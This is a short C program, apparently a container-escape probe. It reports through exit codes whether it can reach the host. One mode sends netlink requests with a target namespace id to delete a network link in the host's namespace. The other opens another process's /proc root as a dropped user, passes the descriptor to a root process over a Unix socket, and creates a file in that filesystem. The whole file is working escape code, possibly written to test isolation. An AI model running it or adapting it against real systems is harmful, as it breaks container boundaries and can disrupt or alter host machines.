/* Reach for the host, by what some flags leave open.

   link INDEX           delete a link of the network namespace that the far end of eth0 is in
   root PID UID FILE    make FILE in the root file system of a process of the user UID

   The exit code is 0 if that was possible, else the error number. */

#include <errno.h>
#include <fcntl.h>
#include <linux/if_link.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

struct request {
	struct nlmsghdr header;
	struct ifinfomsg link;
	struct rtattr attribute;
	int value;
};

static char answer[65536];

static long ask(int type, int flags, int index, int namespace)
{
	int talk = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	struct request one = {
		.header = {sizeof(one), type, NLM_F_REQUEST | flags, 1, 0},
		.link = {.ifi_index = index},
		.attribute = {RTA_LENGTH(sizeof(int)), IFLA_TARGET_NETNSID},
		.value = namespace,
	};

	if (namespace < 0)
		one.header.nlmsg_len = NLMSG_LENGTH(sizeof(one.link));
	if (send(talk, &one, one.header.nlmsg_len, 0) < 0)
		exit(errno);
	return recv(talk, answer, sizeof(answer), 0);
}

/* The kernel gives the far end's namespace a number when the link is shown. */
static int number_of_the_far_end(void)
{
	long length = ask(RTM_GETLINK, 0, if_nametoindex("eth0"), -1);
	struct rtattr *one = IFLA_RTA(NLMSG_DATA((struct nlmsghdr *)answer));

	for (length -= (char *)one - answer; RTA_OK(one, length); one = RTA_NEXT(one, length))
		if (one->rta_type == IFLA_LINK_NETNSID)
			return *(int *)RTA_DATA(one);
	exit(ENOENT);
}

static int delete_link(int index)
{
	ask(RTM_DELLINK, NLM_F_ACK, index, number_of_the_far_end());
	return -((struct nlmsgerr *)NLMSG_DATA((struct nlmsghdr *)answer))->error;
}

/* A process of the same user and groups may look, and root may use what it has opened. */
static int write_to_root(const char *pid, int user, const char *file)
{
	char path[64], room[CMSG_SPACE(sizeof(int))] = {0}, byte = 0;
	struct iovec text = {&byte, 1};
	struct msghdr message = {
		.msg_iov = &text, .msg_iovlen = 1, .msg_control = room, .msg_controllen = sizeof(room)};
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);
	int line[2], fd, status;

	snprintf(path, sizeof(path), "/proc/%s/root", pid);
	socketpair(AF_UNIX, SOCK_STREAM, 0, line);
	if (!fork()) {
		if (setgid(user) || setuid(user) || (fd = open(path, O_RDONLY | O_DIRECTORY)) < 0)
			_exit(errno);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof(int));
		memcpy(CMSG_DATA(header), &fd, sizeof(int));
		_exit(sendmsg(line[0], &message, 0) == 1 ? 0 : errno);
	}
	wait(&status);
	if (status)
		return WEXITSTATUS(status);
	recvmsg(line[1], &message, 0);
	memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(int));
	return openat(fd, file, O_CREAT | O_EXCL | O_WRONLY, 0600) < 0 ? errno : 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "link"))
		return delete_link(atoi(argv[2]));
	if (argc == 5 && !strcmp(argv[1], "root"))
		return write_to_root(argv[2], atoi(argv[3]), argv[4]);
	return 255;
}
